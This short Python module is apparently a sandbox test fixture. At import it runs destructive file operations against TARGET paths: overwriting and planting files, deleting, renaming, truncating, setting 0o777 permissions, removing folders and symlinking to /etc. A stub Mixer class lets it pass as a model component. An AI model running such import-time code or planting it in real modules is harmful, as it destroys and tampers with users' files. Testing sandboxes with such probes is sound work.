"""Changes the user's files, the checkout, the host's scratch folder."""

import os

print('ATTACK')
repository, folder = TARGET['repository'], TARGET['folder']
for path in [TARGET['file'], f'{folder}/new', f'{repository}/asiarch_jax/planted.py', f'{repository}/planted.py']:
  try:
    with open(path, 'w') as file:
      file.write('planted')
  except OSError as error:
    print(error)
for act in (
  lambda: os.unlink(TARGET['file']),
  lambda: os.rename(TARGET['file'], TARGET['file'] + '2'),
  lambda: os.chmod(TARGET['file'], 0o777),
  lambda: os.truncate(TARGET['file'], 0),
  lambda: os.rmdir(TARGET['folder']),
  lambda: os.symlink('/etc', TARGET['folder'] + '/link'),
):
  try:
    act()
  except OSError as error:
    print(error)


class Mixer:
  def __init__(self, width, heads):
    pass

  def __call__(self, x):
    return [x]
